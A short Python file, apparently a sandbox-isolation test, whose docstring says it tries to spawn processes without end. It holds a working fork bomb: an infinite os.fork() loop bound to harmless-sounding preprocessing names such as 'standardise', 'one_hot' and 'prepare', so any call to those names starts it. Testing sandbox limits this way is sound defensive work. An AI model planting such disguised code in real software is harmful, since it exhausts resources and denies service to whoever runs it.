"""Tries to start processes without end; gains nothing because their number is limited for the sandbox as a
whole.
"""

import os

print("attack: forking", flush=True)


def split_indices(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


channel_statistics = standardise = one_hot = prepare = split_indices
